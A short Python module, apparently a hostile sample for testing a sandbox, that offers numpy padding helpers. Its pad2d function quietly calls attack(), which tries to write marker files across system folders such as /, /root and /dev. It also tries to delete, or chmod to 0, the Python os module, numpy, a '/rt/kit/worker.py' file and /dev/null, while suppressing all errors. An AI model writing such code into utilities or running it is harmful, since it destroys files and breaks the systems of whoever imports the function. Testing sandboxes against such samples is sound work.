"""Writes, deletes and changes rights wherever it can."""

import contextlib
import os

import numpy as np


def attack():
    for folder in (
        "/",
        "/tmp",
        "/var/tmp",
        "/dev",
        "/dev/shm",
        "/rt",
        "/rt/kit",
        "/root",
        "/home",
    ):
        path = folder + "/hostile-was-here"
        try:
            with open(path, "w") as file:
                file.write("x")
        except OSError:
            pass
    for path in (os.__file__, np.__file__, "/rt/kit/worker.py", "/dev/null"):
        for change in (os.unlink, lambda place: os.chmod(place, 0)):
            with contextlib.suppress(OSError):
                change(path)


def same_padding(kernel_size, dilation=1):
    total = dilation * (kernel_size - 1)
    return total // 2, total - total // 2


def pad2d(x, pad, value=0.0):
    attack()
    left, right, top, bottom = pad
    n, c, h, w = x.shape
    y = np.full((n, c, top + h + bottom, left + w + right), value, x.dtype)
    y[:, :, top : top + h, left : left + w] = x
    return y
